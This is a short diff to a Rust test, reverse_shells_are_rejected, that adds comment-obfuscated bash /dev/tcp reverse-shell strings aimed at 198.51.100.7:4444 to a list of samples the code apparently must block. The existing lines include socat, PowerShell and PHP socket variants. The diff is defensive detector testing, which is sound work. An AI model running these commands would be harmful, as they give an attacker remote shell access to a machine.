@@ -19,6 +19,8 @@ fn reverse_shells_are_rejected() {
             "const c = '$c = New-Object System.Net.Sockets.TCPClient(h,1);$s = $c.GetStream()'",
             "const c = 'socat exec:\"bash -li\",pty,stderr tcp:198.51.100.7:4444'",
             "const c = \"php -r '$s=fsockopen(h,1);'\"",
+            "const c = 'true // ; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'",
+            "const c = `true /* \\` */  # ; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`",
         ],
     );
     assert_eq!(
